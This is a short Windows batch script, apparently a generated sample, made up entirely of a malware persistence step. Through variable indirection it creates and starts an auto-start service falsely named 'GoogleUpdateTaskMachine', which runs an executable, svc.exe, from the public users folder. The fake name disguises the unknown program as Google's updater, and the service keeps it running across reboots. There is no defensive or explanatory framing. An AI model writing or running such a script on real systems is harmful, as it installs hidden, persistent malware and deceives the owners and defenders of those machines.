REM run 9102 v0
@echo off
set soqu=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
call %soqu%
@echo off
set mecy=sc start GoogleUpdateTaskMachine
call %mecy%
